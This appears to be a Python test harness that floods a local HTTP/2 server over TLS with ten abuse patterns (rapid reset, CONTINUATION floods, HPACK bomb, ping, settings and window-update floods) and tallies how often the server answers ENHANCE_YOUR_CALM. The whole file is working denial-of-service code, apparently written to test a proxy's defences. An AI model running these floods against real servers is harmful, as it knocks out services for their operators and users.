"""Abuse of HTTP/2 by one process: abuse.py PORT KIND CONNECTIONS SECONDS, over TLS.

Each connection abuses for as long as it is let; one that is ended is followed by the next, so that a proxy gains nothing
by taking long. Prints what came of it: connections, frames sent, and how many were told ENHANCE_YOUR_CALM or ended
otherwise.
"""

import json
import select
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4
CALM = 11
BURST = 16384
"""Octets that are written at once."""


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    return bytes([0, len(name)]) + name + bytes([len(value)]) + value


GET = bytes([0x82, 0x87]) + literal(b":path", b"/1k") + literal(b":authority", b"localhost")
POST = bytes([0x83, 0x87]) + literal(b":path", b"/upload") + literal(b":authority", b"localhost")


def rapid_reset():
    for stream in range(1, 1 << 31, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, GET) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def continuations():
    yield frame(HEADERS, END_STREAM, 1, GET)
    while True:
        yield frame(CONTINUATION, 0, 1, literal(b"x-a", b"b"))


def empty_continuations():
    yield frame(HEADERS, END_STREAM, 1, GET)
    while True:
        yield frame(CONTINUATION, 0, 1)


def pings():
    while True:
        yield frame(PING, 0, 0, bytes(8))


def settings():
    while True:
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100))


def empty_data():
    yield frame(HEADERS, END_HEADERS, 1, POST)
    while True:
        yield frame(DATA, 0, 1)


def window_updates():
    yield frame(HEADERS, END_HEADERS, 1, POST)
    while True:
        yield frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1))


def stalled_windows():
    yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
    for stream in range(1, 199, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, GET)
    while True:
        yield b""


def hpack_bomb():
    value = b"v" * 120
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, GET + bytes([0x40, 1]) + b"a" + bytes([len(value)]) + value)
    for stream in range(3, 1 << 31, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, GET + bytes([0xBE]) * 8000)


def priorities():
    for stream in range(1, 1 << 31, 2):
        yield frame(PRIORITY, 0, stream, struct.pack(">IB", 0, 7))


KINDS = {"rapid-reset": rapid_reset, "continuations": continuations, "empty-continuations": empty_continuations,
         "pings": pings, "settings": settings, "empty-data": empty_data, "window-updates": window_updates,
         "stalled-windows": stalled_windows, "hpack-bomb": hpack_bomb, "priorities": priorities}


class Attacker:
    """One connection; what it gets is read and thrown away, but for the code of a GOAWAY."""

    def __init__(self, port, context, kind):
        raw = socket.create_connection(("127.0.0.1", port), 5)
        self.wire = context.wrap_socket(raw, server_hostname="localhost")
        self.wire.setblocking(False)
        self.frames, self.count, self.unsent, self.read = kind(), 0, PREFACE + frame(SETTINGS, 0, 0), b""
        self.told = None

    def turn(self):
        """Sends a burst and reads what came; false at the end of the connection."""
        while len(self.unsent) < BURST:
            more = next(self.frames)
            if not more:
                break
            self.unsent += more
            self.count += 1
        try:
            if self.unsent:
                self.unsent = self.unsent[self.wire.send(self.unsent):]
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        except OSError:
            self.receive()
            return False
        return self.receive()

    def receive(self):
        try:
            while data := self.wire.recv(65536):
                self.read += data
                self.look()
            return False
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            return True
        except OSError:
            return False

    def look(self):
        while len(self.read) >= 9:
            length = int.from_bytes(self.read[:3], "big")
            if len(self.read) < 9 + length:
                return
            if self.read[3] == GOAWAY and (code := int.from_bytes(self.read[13:17], "big")):
                self.told = code
            self.read = self.read[9 + length:]


def main():
    port, kind, connections, seconds = int(sys.argv[1]), KINDS[sys.argv[2]], int(sys.argv[3]), float(sys.argv[4])
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    until, tally = time.monotonic() + seconds, {"connections": 0, "frames": 0, "calm": 0, "ended": 0, "codes": {}}
    attackers = []
    while time.monotonic() < until:
        while len(attackers) < connections:
            try:
                attackers.append(Attacker(port, context, kind))
            except OSError:
                time.sleep(0.01)
                break
            tally["connections"] += 1
        for attacker in list(attackers):
            if not attacker.turn():
                attackers.remove(attacker)
                end(attacker, tally)
        select.select([attacker.wire for attacker in attackers], [], [], 0.001)
    for attacker in attackers:
        tally["frames"] += attacker.count
    print(json.dumps(tally))


def end(attacker, tally):
    tally["frames"] += attacker.count
    tally["calm" if attacker.told == CALM else "ended"] += 1
    if attacker.told is not None:
        tally["codes"][str(attacker.told)] = tally["codes"].get(str(attacker.told), 0) + 1
    attacker.wire.close()


if __name__ == "__main__":
    main()
